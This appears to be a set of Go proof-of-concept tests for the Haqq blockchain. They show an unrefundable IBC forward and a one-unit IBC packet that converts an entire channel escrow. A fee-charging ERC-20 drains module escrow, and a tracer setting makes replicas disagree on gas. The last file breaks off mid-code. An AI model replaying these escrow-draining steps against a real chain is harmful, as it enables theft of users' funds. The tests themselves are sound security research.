		Base:        teststypes.UosmoIbcdenom,
		DenomUnits:  []*banktypes.DenomUnit{{Denom: teststypes.UosmoDenomtrace.BaseDenom, Exponent: 0}},
		Name:        teststypes.UosmoIbcdenom,
		Symbol:      erc20Symbol,
		Display:     teststypes.UosmoDenomtrace.BaseDenom,
	}
	pair, err := s.app.Erc20Keeper.RegisterCoin(s.HaqqChain.GetContext(), osmoMeta)
	suite.Require().NoError(err)
	s.HaqqChain.Coordinator.CommitBlock()

	osmoSender := s.IBCOsmosisChain.SenderAccount.GetAddress()
	osmoBalance := func() int64 {
		return s.IBCOsmosisChain.GetSimApp().BankKeeper.GetBalance(s.IBCOsmosisChain.GetContext(), osmoSender, "uosmo").Amount.Int64()
	}
	balanceStart := osmoBalance()

	// Osmosis -> Haqq with a forward to Cosmos; the final receiver is not a valid address, so the
	// last hop answers with an error acknowledgement and everything has to be refunded
	memo := fmt.Sprintf(`{"forward":{"receiver":"not-a-bech32-address","port":"transfer","channel":"%s"}}`,
		s.pathCosmosHaqq.EndpointB.ChannelID)
	transferMsg := transfertypes.NewMsgTransfer(
		s.pathOsmosisHaqq.EndpointA.ChannelConfig.PortID, s.pathOsmosisHaqq.EndpointA.ChannelID,
		sdk.NewCoin("uosmo", sdkmath.NewInt(amount)),
		osmoSender.String(), s.HaqqChain.SenderAccount.GetAddress().String(),
		clienttypes.NewHeight(1000, 1000), 0, memo,
	)
	res, err := ibctesting.SendMsgs(s.IBCOsmosisChain, ibctesting.DefaultFeeAmt, transferMsg)
	suite.Require().NoError(err)
	firstPacket, err := ibcgotesting.ParsePacketFromEvents(res.GetEvents())
	suite.Require().NoError(err)
	suite.Require().Equal(balanceStart-amount, osmoBalance(), "funds escrowed on the first chain")

	// hop 1: Haqq receives and forwards (no acknowledgement yet, PFM answers asynchronously)
	suite.Require().NoError(s.pathOsmosisHaqq.EndpointB.UpdateClient())
	res, err = s.pathOsmosisHaqq.EndpointB.RecvPacketWithResult(firstPacket)
	suite.Require().NoError(err)
	forwarded, err := ibcgotesting.ParsePacketFromEvents(res.GetEvents())
	suite.Require().NoError(err)
	suite.Require().Equal(s.pathCosmosHaqq.EndpointB.ChannelID, forwarded.SourceChannel, "Haqq forwarded the packet")

	// hop 2: Cosmos rejects it
	suite.Require().NoError(s.pathCosmosHaqq.EndpointA.UpdateClient())
	res, err = s.pathCosmosHaqq.EndpointA.RecvPacketWithResult(forwarded)
	suite.Require().NoError(err)
	ackBz, err := ibcgotesting.ParseAckFromEvents(res.GetEvents())
	suite.Require().NoError(err)
	var ack channeltypes.Acknowledgement
	suite.Require().NoError(transfertypes.ModuleCdc.UnmarshalJSON(ackBz, &ack))
	suite.Require().False(ack.Success(), "the last hop failed")

	// the relayer brings the error acknowledgement of the forwarded packet back to Haqq
	// (first delivered to the IBC msg server on a branch of the current block, so that the error can be shown)
	ackKey := host.PacketAcknowledgementKey(forwarded.GetDestPort(), forwarded.GetDestChannel(), forwarded.GetSequence())
	proof, proofHeight := s.pathCosmosHaqq.EndpointA.QueryProof(ackKey)
	relayer := s.HaqqChain.SenderAccount.GetAddress().String()
	ackMsg := channeltypes.NewMsgAcknowledgement(forwarded, ackBz, proof, proofHeight, relayer)
	branch, _ := s.HaqqChain.GetContext().CacheContext()
	_, ackErr := s.app.IBCKeeper.Acknowledgement(sdk.WrapSDKContext(branch), ackMsg)
	if ackErr != nil {
		suite.T().Logf("uosmo of the sender on the first chain: %d at the start, %d now (10 locked in escrow)", balanceStart, osmoBalance())
		suite.FailNow("Haqq rejects the acknowledgement of the forwarded packet, so the original sender can never be refunded", ackErr.Error())
	}

	// what has to happen: Haqq accepts it and writes the error acknowledgement of the first packet ...
	res, err = ibctesting.SendMsgs(s.HaqqChain, ibctesting.DefaultFeeAmt, ackMsg)
	suite.Require().NoError(err)
	firstAck, err := ibcgotesting.ParseAckFromEvents(res.GetEvents())
	suite.Require().NoError(err)
	// ... the relayer delivers that to Osmosis and the sender has his 10 uosmo back
	suite.Require().NoError(s.pathOsmosisHaqq.EndpointA.UpdateClient())
	suite.Require().NoError(s.pathOsmosisHaqq.EndpointA.AcknowledgePacket(firstPacket, firstAck))
	suite.Require().Equal(balanceStart, osmoBalance(), "the original sender is refunded")

	// and nothing is left behind on Haqq: no voucher outside the erc20 escrow, no token minted
	supply := s.app.BankKeeper.GetSupply(s.HaqqChain.GetContext(), pair.Denom).Amount
	escrow := s.app.BankKeeper.GetBalance(s.HaqqChain.GetContext(), types.ModuleAddress.Bytes(), pair.Denom).Amount
	suite.Require().Equal(supply.String(), escrow.String())
}
