package keeper_test

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/contracts"
)

// TestZZHuntIBCRecvConvertsChannelEscrow:
//
// property C10 - each automatic conversion on IBC receive debits one representation and
// credits the other by exactly the same amount (the amount that was received), and the
// circulating representations stay backed/redeemable.
//
// The erc20 IBC middleware converts, on every successful receive of a registered denom,
// the WHOLE coin balance of the packet's receiver (x/erc20/keeper/ibc_callbacks.go,
// OnRecvPacket: "convert the whole user balance"). The receiver is chosen by the remote
// sender and may be the ICS-20 channel escrow account of this very chain, which is an
// ordinary (non-module, non-blocked) account holding the coins that back every voucher
// outstanding on the counterparty chain. One packet of 1 unit addressed to it converts
// the complete escrow into ERC-20 tokens owned by a key-less address.
func (suite *KeeperTestSuite) TestZZHuntIBCRecvConvertsChannelEscrow() {
	suite.suiteIBCTesting = true
	suite.SetupTest()
	suite.suiteIBCTesting = false
	// leave the shared suite in its default (non-IBC) state for whatever runs next
	defer suite.SetupTest()

	const total = int64(100)
	erc20ABI := contracts.ERC20MinterBurnerDecimalsContract.ABI

	haqqUser := s.HaqqChain.SenderAccount.GetAddress()
	osmoUser := s.IBCOsmosisChain.SenderAccount.GetAddress()
	haqqUserHex := common.BytesToAddress(haqqUser.Bytes())

	// an (honest, standard) ERC-20 registered as an ERC20-origin pair
	contract, err := s.DeployContractToChain("testcoin", "tt", 18)
	suite.Require().NoError(err)
	pair, err := s.app.Erc20Keeper.RegisterERC20(s.HaqqChain.GetContext(), contract)
	suite.Require().NoError(err)
	s.HaqqChain.SenderAccount.SetSequence(s.HaqqChain.SenderAccount.GetSequence() + 1) //nolint:errcheck

	trace := transfertypes.DenomTrace{Path: "transfer/" + s.pathOsmosisHaqq.EndpointA.ChannelID, BaseDenom: pair.Denom}
	voucher := trace.IBCDenom()

	// the Haqq user owns 100 tokens and sends them all to Osmosis over IBC
	_, err = s.app.Erc20Keeper.CallEVM(s.HaqqChain.GetContext(), erc20ABI, haqqUserHex, contract, true, "mint", haqqUserHex, big.NewInt(total))
	suite.Require().NoError(err)
	s.HaqqChain.Coordinator.CommitBlock()

	s.SendBackCoins(s.pathOsmosisHaqq, s.HaqqChain, pair.Denom, total, haqqUser.String(), osmoUser.String(), 1, "")
	s.IBCOsmosisChain.Coordinator.CommitBlock()

	escrowAddr := transfertypes.GetEscrowAddress(s.pathOsmosisHaqq.EndpointB.ChannelConfig.PortID, s.pathOsmosisHaqq.EndpointB.ChannelID)
	escrowCoins := func() int64 {
		return s.app.BankKeeper.GetBalance(s.HaqqChain.GetContext(), escrowAddr, pair.Denom).Amount.Int64()
	}
	vouchers := func() int64 {
		return s.IBCOsmosisChain.GetSimApp().BankKeeper.GetBalance(s.IBCOsmosisChain.GetContext(), osmoUser, voucher).Amount.Int64()
	}
	tokensOf := func(a sdk.AccAddress) int64 {
		return s.app.Erc20Keeper.BalanceOf(s.HaqqChain.GetContext(), erc20ABI, contract, common.BytesToAddress(a.Bytes())).Int64()
	}

	suite.Require().Equal(total, escrowCoins(), "the 100 coins are escrowed on Haqq's side of the channel")
	suite.Require().Equal(total, vouchers(), "100 vouchers circulate on Osmosis")
	suite.Require().False(s.app.BankKeeper.BlockedAddr(escrowAddr), "the channel escrow account is an ordinary, non-blocked account")

	// --- anyone holding ONE voucher unit sends it back, naming the channel escrow account as receiver
	s.SendAndReceiveMessage(s.pathOsmosisHaqq, s.IBCOsmosisChain, voucher, 1, osmoUser.String(), escrowAddr.String(), 1, trace.GetFullDenomPath())
	s.HaqqChain.Coordinator.CommitBlock()

	outstanding := vouchers()
	suite.T().Logf("after a 1-unit packet to the escrow account: vouchers outstanding on Osmosis=%d, coins in Haqq channel escrow=%d, ERC-20 tokens held by the escrow address=%d",
		outstanding, escrowCoins(), tokensOf(escrowAddr))
	suite.Require().Equal(total-1, outstanding)

	// receiving 1 coin may convert 1 coin - not the coins that back other people's vouchers
	suite.Require().GreaterOrEqual(escrowCoins(), outstanding,
		"C10 violated: an IBC receive of 1 coin converted %d coins; %d vouchers circulate on Osmosis but only %d coins are left in Haqq's channel escrow",
		tokensOf(escrowAddr), outstanding, escrowCoins())

	// --- the holder of the other 99 vouchers redeems them
	s.SendAndReceiveMessage(s.pathOsmosisHaqq, s.IBCOsmosisChain, voucher, total-1, osmoUser.String(), haqqUser.String(), 2, trace.GetFullDenomPath())
	s.HaqqChain.Coordinator.CommitBlock()
	s.IBCOsmosisChain.Coordinator.CommitBlock()

	redeemed := tokensOf(haqqUser) + s.app.BankKeeper.GetBalance(s.HaqqChain.GetContext(), haqqUser, pair.Denom).Amount.Int64()
	suite.T().Logf("redeeming 99 vouchers: Haqq user now holds %d tokens/coins, vouchers left on Osmosis=%d", redeemed, vouchers())
	suite.Require().Equal(total-1, redeemed, "the 99 vouchers must be redeemable for the user's 99 tokens")
	suite.Require().Equal(int64(0), vouchers())
}
