package keeper_test

import (
	"encoding/hex"
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/asm"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzSenderFeeTokenRuntime is a minimal, *truthful* ERC-20 whose transfer charges the
// SENDER a 10% burn fee on top of the transferred amount:
//
//	balance[msg.sender] -= amount + amount/10
//	balance[to]         += amount
//	emit Transfer(msg.sender, to, amount); return true
//
// balanceOf always reports the real ledger, transfer returns true, no Approval is
// emitted. (There is no solc in the sandbox, so the contract is assembled with
// go-ethereum's core/asm.)
const zzSenderFeeTokenRuntime = `
	PUSH 0x00
	CALLDATALOAD
	PUSH 0xe0
	SHR
	DUP1
	PUSH 0x70a08231
	EQ
	JUMPI @balanceOf
	DUP1
	PUSH 0xa9059cbb
	EQ
	JUMPI @transfer
	DUP1
	PUSH 0x313ce567
	EQ
	JUMPI @decimals
	DUP1
	PUSH 0x06fdde03
	EQ
	JUMPI @name
	DUP1
	PUSH 0x95d89b41
	EQ
	JUMPI @name
	PUSH 0x00
	DUP1
	REVERT

balanceOf:
	PUSH 0x04
	CALLDATALOAD
	SLOAD
	PUSH 0x00
	MSTORE
	PUSH 0x20
	PUSH 0x00
	RETURN

decimals:
	PUSH 0x12
	PUSH 0x00
	MSTORE
	PUSH 0x20
	PUSH 0x00
	RETURN

name:
	PUSH "FeeToken"
	PUSH 0x28
	MSTORE
	PUSH 0x08
	PUSH 0x20
	MSTORE
	PUSH 0x20
	PUSH 0x00
	MSTORE
	PUSH 0x60
	PUSH 0x00
	RETURN

transfer:
	PUSH 0x24
	CALLDATALOAD
	PUSH 0x04
	CALLDATALOAD
	DUP2
	PUSH 0x0a
	SWAP1
	DIV
	DUP3
	ADD
	CALLER
	SLOAD
	DUP2
	DUP2
	LT
	JUMPI @fail
	SUB
	CALLER
	SSTORE
	DUP1
	SLOAD
	DUP3
	ADD
	DUP2
	SSTORE
	SWAP1
	PUSH 0x00
	MSTORE
	CALLER
	PUSH 0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef
	PUSH 0x20
	PUSH 0x00
	LOG3
	PUSH 0x01
	PUSH 0x00
	MSTORE
	PUSH 0x20
	PUSH 0x00
	RETURN

fail:
	PUSH 0x00
	DUP1
	REVERT
`

// zzSenderFeeTokenInitCode returns deployment code that credits `supply` to the
// deployer and installs the runtime above.
func zzSenderFeeTokenInitCode(supply *big.Int) ([]byte, error) {
	c := asm.NewCompiler(false)
	c.Feed(asm.Lex([]byte(zzSenderFeeTokenRuntime), false))
	hexCode, errs := c.Compile()
	if len(errs) > 0 {
		return nil, errs[0]
	}
	runtime, err := hex.DecodeString(hexCode)
	if err != nil {
		return nil, err
	}

	// PUSH32 supply; CALLER; SSTORE; PUSH2 len; DUP1; PUSH2 off; PUSH1 0; CODECOPY; PUSH1 0; RETURN
	const initLen = 48
	init := make([]byte, 0, initLen+len(runtime))
	init = append(init, 0x7f)
	init = append(init, common.LeftPadBytes(supply.Bytes(), 32)...)
	init = append(init, 0x33, 0x55)
	init = append(init, 0x61, byte(len(runtime)>>8), byte(len(runtime)))
	init = append(init, 0x80)
	init = append(init, 0x61, 0x00, initLen)
	init = append(init, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3)
	if len(init) != initLen {
		panic("init code length")
	}
	return append(init, runtime...), nil
}

// TestZZHuntSenderFeeTokenDrainsEscrow:
//
// property C10 - for an ERC20-origin pair the coin supply never exceeds the tokens
// escrowed by the module; every conversion debits one representation and credits the
// other by exactly the same amount, or fails without effect.
//
// coin -> ERC20 conversion of an ERC20-origin pair (convertCoinNativeERC20) only checks
// that the RECEIVER got `amount` tokens; it never checks that the module's escrow went
// down by exactly `amount`. With a token that charges the sender a fee, the module pays
// amount+fee out of the escrow but burns only `amount` coins.
func (suite *KeeperTestSuite) TestZZHuntSenderFeeTokenDrainsEscrow() {
	suite.SetupTest()
	k := suite.app.Erc20Keeper

	// --- deploy the token (1_000_000 units to suite.address) and register it
	initCode, err := zzSenderFeeTokenInitCode(big.NewInt(1_000_000))
	suite.Require().NoError(err)
	suite.Commit()
	contract, err := testutil.DeployContract(
		suite.ctx, suite.app, suite.priv, suite.queryClientEvm,
		evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: initCode},
	)
	suite.Require().NoError(err)
	suite.Commit()

	pair, err := k.RegisterERC20(suite.ctx, contract)
	suite.Require().NoError(err)
	suite.Require().True(pair.IsNativeERC20())
	suite.Commit()

	user := sdk.AccAddress(suite.address.Bytes())
	escrow := func() *big.Int { return suite.BalanceOf(contract, types.ModuleAddress).(*big.Int) }
	supply := func() *big.Int { return suite.app.BankKeeper.GetSupply(suite.ctx, pair.Denom).Amount.BigInt() }

	// sanity: the token reports balances truthfully
	suite.Require().Equal(big.NewInt(1_000_000), suite.BalanceOf(contract, suite.address).(*big.Int))
	suite.Require().Equal(int64(0), escrow().Int64())

	// every message is atomic in baseapp: emulate that with a cache context
	convertERC20 := func(amount int64) error {
		cctx, write := suite.ctx.CacheContext()
		_, err := k.ConvertERC20(sdk.WrapSDKContext(cctx),
			types.NewMsgConvertERC20(math.NewInt(amount), user, contract, suite.address))
		if err == nil {
			write()
		}
		return err
	}
	convertCoin := func(amount int64) error {
		cctx, write := suite.ctx.CacheContext()
		_, err := k.ConvertCoin(sdk.WrapSDKContext(cctx),
			types.NewMsgConvertCoin(sdk.NewCoin(pair.Denom, math.NewInt(amount)), suite.address, user))
		if err == nil {
			write()
		}
		return err
	}

	// --- 1. ERC20 -> coin, 1000: the user pays 1100, the module escrows 1000, 1000 coins minted
	suite.Require().NoError(convertERC20(1000))
	suite.Require().Equal(int64(1000), escrow().Int64(), "escrow after ERC20->coin")
	suite.Require().Equal(int64(1000), supply().Int64(), "coin supply after ERC20->coin")
	suite.Require().Equal(int64(1_000_000-1100), suite.BalanceOf(contract, suite.address).(*big.Int).Int64())

	// --- 2. coin -> ERC20, 500: must debit the escrow by exactly 500 or fail without effect
	err = convertCoin(500)
	suite.T().Logf("ConvertCoin(500) err=%v ; coin supply=%s ; escrowed tokens=%s", err, supply(), escrow())

	// informational: can the holders of the remaining coins still redeem them? (discarded afterwards)
	{
		cctx, _ := suite.ctx.CacheContext()
		_, rerr := k.ConvertCoin(sdk.WrapSDKContext(cctx),
			types.NewMsgConvertCoin(sdk.NewCoin(pair.Denom, math.NewIntFromBigInt(supply())), suite.address, user))
		suite.T().Logf("redeeming the remaining %s coins: err=%v", supply(), rerr)
	}

	suite.Require().True(supply().Cmp(escrow()) <= 0,
		"C10 violated: coin supply %s of %s exceeds the %s tokens escrowed by the module (ConvertCoin err=%v)",
		supply(), pair.Denom, escrow(), err)
}
