package app_test

// Demonstration for property C01 (replicas agree on every block).
//
// Two replicas are built from the same genesis and fed the same blocks. They differ in one
// node-local setting only: replica B runs with `evm.tracer = "struct"` in app.toml (a documented
// debugging option), replica A with the default (no tracer).
//
// History (all ordinary user transactions):
//   block 1: account 0 converts account 4 into a clawback vesting account (5000 ISLM locked)
//   block 2: account 4 liquidates 2000 ISLM -> the chain deploys the aLIQUID0 ERC20 and registers the pair
//   block 3: account 4 converts 500 aLIQUID0 from the ERC20 back to the coin (MsgConvertERC20)
//
// The property demands identical results (code, data, gas) and app hash on both replicas.

import (
	"bytes"
	"encoding/json"
	"os"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	tmed25519 "github.com/cometbft/cometbft/crypto/ed25519"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	"github.com/cosmos/cosmos-sdk/client/flags"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	srvflags "github.com/haqq-network/haqq/server/flags"
	testtx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	liquidvestingtypes "github.com/haqq-network/haqq/x/liquidvesting/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

const zzTChainID = utils.TestEdge2ChainID + "-3"

type zzTNet struct {
	t        *testing.T
	names    []string
	apps     []*app.Haqq
	privs    []*ethsecp256k1.PrivKey
	addrs    []sdk.AccAddress
	valAddr  []byte
	valHash  []byte
	time     time.Time
	height   int64
	appHash  [][]byte
	lastHash []byte
}

// zzTNewNet builds one replica per entry of tracers ("" = default) from one genesis.
func zzTNewNet(t *testing.T, tracers []string) *zzTNet {
	n := &zzTNet{t: t, time: time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)}

	// fixed keys: every run (and every replica) sees exactly the same genesis
	validator := tmtypes.NewValidator(tmed25519.GenPrivKeyFromSecret([]byte("zz hunt validator")).PubKey(), 1)
	valSet := tmtypes.NewValidatorSet([]*tmtypes.Validator{validator})
	n.valAddr, n.valHash = validator.Address, valSet.Hash()

	const nAcc = 5
	genAccs := make([]authtypes.GenesisAccount, nAcc)
	balances := make([]banktypes.Balance, nAcc)
	for i := 0; i < nAcc; i++ {
		priv := &ethsecp256k1.PrivKey{Key: bytes.Repeat([]byte{byte(i + 1)}, 32)}
		addr := sdk.AccAddress(priv.PubKey().Address().Bytes())
		n.privs, n.addrs = append(n.privs, priv), append(n.addrs, addr)
		genAccs[i] = &haqqtypes.EthAccount{
			BaseAccount: authtypes.NewBaseAccount(addr, nil, 0, 0),
			CodeHash:    common.BytesToHash(evmtypes.EmptyCodeHash).Hex(),
		}
		balances[i] = banktypes.Balance{
			Address: addr.String(),
			Coins:   sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1_000_000, 18))),
		}
	}

	var (
		stateBytes []byte
		err        error
	)
	for i, tracer := range tracers {
		home := t.TempDir()
		opts := simtestutil.AppOptionsMap{flags.FlagHome: home, srvflags.EVMTracer: tracer}
		a := app.NewHaqq(log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{}, home, 0,
			encoding.MakeConfig(app.ModuleBasics), opts, baseapp.SetChainID(zzTChainID))
		if i == 0 {
			gs := app.GenesisStateWithValSet(a, app.NewDefaultGenesisState(), valSet, genAccs, balances...)
			stateBytes, err = json.MarshalIndent(gs, "", " ")
			require.NoError(t, err)
		}
		a.InitChain(abci.RequestInitChain{
			Time: n.time, ChainId: zzTChainID, InitialHeight: 1,
			ConsensusParams: app.DefaultConsensusParams, AppStateBytes: stateBytes,
		})
		name := "default"
		if tracer != "" {
			name = "evm.tracer=" + tracer
		}
		n.names, n.apps = append(n.names, name), append(n.apps, a)
	}
	n.appHash = make([][]byte, len(n.apps))
	return n
}

// zzTBlock runs one block with the given transactions on every replica and returns the DeliverTx responses
// per transaction and replica. Transactions are built against replica 0 right before they are delivered.
func (n *zzTNet) zzTBlock(build ...func(ctx sdk.Context, a *app.Haqq) []byte) [][]abci.ResponseDeliverTx {
	n.height++
	n.time = n.time.Add(6 * time.Second)
	header := tmproto.Header{
		ChainID: zzTChainID, Height: n.height, Time: n.time, ProposerAddress: n.valAddr,
		ValidatorsHash: n.valHash, NextValidatorsHash: n.valHash, AppHash: n.lastHash,
	}
	for _, a := range n.apps {
		a.BeginBlock(abci.RequestBeginBlock{Hash: bytes.Repeat([]byte{byte(n.height)}, 32), Header: header})
	}
	var out [][]abci.ResponseDeliverTx
	for _, b := range build {
		bz := b(n.apps[0].BaseApp.NewContext(false, header), n.apps[0])
		var ress []abci.ResponseDeliverTx
		for _, a := range n.apps {
			ress = append(ress, a.DeliverTx(abci.RequestDeliverTx{Tx: bz}))
		}
		out = append(out, ress)
	}
	for i, a := range n.apps {
		a.EndBlock(abci.RequestEndBlock{Height: n.height})
		n.appHash[i] = a.Commit().Data
	}
	n.lastHash = n.appHash[0]
	return out
}

func (n *zzTNet) zzTCosmosTx(from int, gas uint64, msgs ...sdk.Msg) func(ctx sdk.Context, a *app.Haqq) []byte {
	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
	return func(ctx sdk.Context, a *app.Haqq) []byte {
		gp := sdkmath.NewIntFromBigInt(a.FeeMarketKeeper.GetBaseFee(ctx)).MulRaw(2)
		tx, err := testtx.PrepareCosmosTx(ctx, a, testtx.CosmosTxArgs{
			TxCfg: txCfg, Priv: n.privs[from], ChainID: zzTChainID, Gas: gas, GasPrice: &gp, Msgs: msgs,
		}, signing.SignMode_SIGN_MODE_DIRECT)
		require.NoError(n.t, err)
		bz, err := txCfg.TxEncoder()(tx)
		require.NoError(n.t, err)
		return bz
	}
}

// zzTHistory runs the three blocks; the MsgConvertERC20 of block 3 is given sendGas as its gas limit.
func (n *zzTNet) zzTHistory(sendGas uint64) []abci.ResponseDeliverTx {
	one := sdkmath.NewIntWithDecimal(1, 18)
	res := n.zzTBlock(n.zzTCosmosTx(0, 1_000_000, vestingtypes.NewMsgConvertIntoVestingAccount(
		n.addrs[0], n.addrs[4], n.time,
		sdkvesting.Periods{{Length: 100_000_000, Amount: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one.MulRaw(5000)))}},
		nil, true, false, nil)))
	for i := range n.apps {
		require.Zero(n.t, res[0][i].Code, res[0][i].Log)
	}
	res = n.zzTBlock(n.zzTCosmosTx(4, 20_000_000, liquidvestingtypes.NewMsgLiquidate(n.addrs[4], n.addrs[4], sdk.NewCoin(utils.BaseDenom, one.MulRaw(2000)))))
	for i := range n.apps {
		require.Zero(n.t, res[0][i].Code, res[0][i].Log)
	}
	require.Equal(n.t, n.appHash[0], n.appHash[1], "replicas agree before block 3")

	res = n.zzTBlock(func(ctx sdk.Context, a *app.Haqq) []byte {
		pair, ok := a.Erc20Keeper.GetTokenPair(ctx, a.Erc20Keeper.GetTokenPairID(ctx, "aLIQUID0"))
		require.True(n.t, ok)
		msg := erc20types.NewMsgConvertERC20(one.MulRaw(500), n.addrs[4], pair.GetERC20Contract(), common.BytesToAddress(n.addrs[4]))
		return n.zzTCosmosTx(4, sendGas, msg)(ctx, a)
	})
	return res[0]
}

func (n *zzTNet) zzTTokenBalance(i int, holder sdk.AccAddress) string {
	a := n.apps[i]
	ctx := a.BaseApp.NewContext(true, tmproto.Header{Height: n.height, ChainID: zzTChainID, Time: n.time, ProposerAddress: n.valAddr})
	pair, ok := a.Erc20Keeper.GetTokenPair(ctx, a.Erc20Keeper.GetTokenPairID(ctx, "aLIQUID0"))
	require.True(n.t, ok)
	bal := a.Erc20Keeper.BalanceOf(ctx, contracts.ERC20MinterBurnerDecimalsContract.ABI, pair.GetERC20Contract(), common.BytesToAddress(holder))
	require.NotNil(n.t, bal)
	return bal.String()
}

func TestZZHuntStructTracerChangesGasOfCosmosTxs(t *testing.T) {
	// the struct logger prints every call's return data to the process' stdout: keep the test output readable
	if devnull, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0); err == nil {
		stdout := os.Stdout
		os.Stdout = devnull
		defer func() { os.Stdout = stdout }()
	}

	// 1. generous gas limit: same history, same gas limit -> the results must be identical
	n := zzTNewNet(t, []string{"", evmtypes.TracerStruct})
	res := n.zzTHistory(20_000_000)
	require.Zero(t, res[0].Code, res[0].Log)
	require.Zero(t, res[1].Code, res[1].Log)
	gasA, gasB := uint64(res[0].GasUsed), uint64(res[1].GasUsed)
	t.Logf("MsgConvertERC20, gas limit 20000000: GasUsed %d on %q, %d on %q", gasA, n.names[0], gasB, n.names[1])
	if gasA != gasB {
		t.Errorf("ResponseDeliverTx.GasUsed (hashed into LastResultsHash) differs between replicas fed the same block: %q used %d, %q used %d",
			n.names[0], gasA, n.names[1], gasB)
	}

	// 2. the same history with a gas limit that is just enough on the default replica
	limit := gasA + 50
	if gasB > gasA {
		limit = gasA + (gasB-gasA)/2
	}
	n = zzTNewNet(t, []string{"", evmtypes.TracerStruct})
	res = n.zzTHistory(limit)
	var coin, token [2]string
	for i := range n.apps {
		ctx := n.apps[i].BaseApp.NewContext(true, tmproto.Header{Height: n.height, ChainID: zzTChainID})
		coin[i] = n.apps[i].BankKeeper.GetBalance(ctx, n.addrs[4], "aLIQUID0").Amount.String()
		token[i] = n.zzTTokenBalance(i, n.addrs[4])
		t.Logf("gas limit %d: %-19q code=%d gasUsed=%d sender's aLIQUID0: coin=%s erc20=%s appHash=%X",
			limit, n.names[i], res[i].Code, res[i].GasUsed, coin[i], token[i], n.appHash[i])
	}
	assert.Equal(t, res[0].Code, res[1].Code, "the same transaction must succeed or fail on every replica (log of B: %s)", res[1].Log)
	assert.Equal(t, coin[0], coin[1], "sender's aLIQUID0 coin balance must be the same on every replica")
	assert.Equal(t, token[0], token[1], "sender's aLIQUID0 ERC20 balance must be the same on every replica")
	assert.Equal(t, n.appHash[0], n.appHash[1], "app hash after block 3 must be the same on every replica")
}
