package v175_test

import (
	"encoding/binary"
	"runtime"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/crypto/keys/ed25519"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	"github.com/haqq-network/haqq/app"
	v175 "github.com/haqq-network/haqq/app/upgrades/v1.7.5"
	"github.com/haqq-network/haqq/utils"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

const zzNumAccounts = 400

func eqCoins(a, b sdk.Coins) bool { return a.IsAllGTE(b) && b.IsAllGTE(a) }

// TestZZUpgradeHandlerIsScheduleIndependent creates N clawback vesting accounts
// whose lockup schedule total (900) differs from OriginalVesting (1000) while the
// vesting schedule total equals OriginalVesting. tryFoundFixScheduleForVestingAccount
// must therefore append every one of them to updatedVestingAccounts and the handler
// must write every one of them back with lockup total == OriginalVesting.
func TestZZUpgradeHandlerIsScheduleIndependent(t *testing.T) {
	require.Greater(t, runtime.GOMAXPROCS(0), 1, "needs GOMAXPROCS>1")

	chainID := utils.MainNetChainID + "-1"
	haqq, _ := app.Setup(false, nil, chainID)
	ctx := haqq.BaseApp.NewContext(false, tmproto.Header{
		ChainID: chainID,
		Height:  1,
		Time:    time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC),
	})

	funder := sdk.AccAddress(ed25519.GenPrivKey().PubKey().Address())
	orig := sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 1000))
	start := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)

	addrs := make([]sdk.AccAddress, 0, zzNumAccounts)
	for i := 0; i < zzNumAccounts; i++ {
		addr := make([]byte, 20)
		addr[0] = 0xC1
		binary.BigEndian.PutUint32(addr[16:], uint32(i+1))
		accAddr := sdk.AccAddress(addr)

		base := authtypes.NewBaseAccountWithAddress(accAddr)
		base.AccountNumber = haqq.AccountKeeper.NextAccountNumber(ctx)

		lockup := sdkvesting.Periods{
			{Length: 100, Amount: sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 400))},
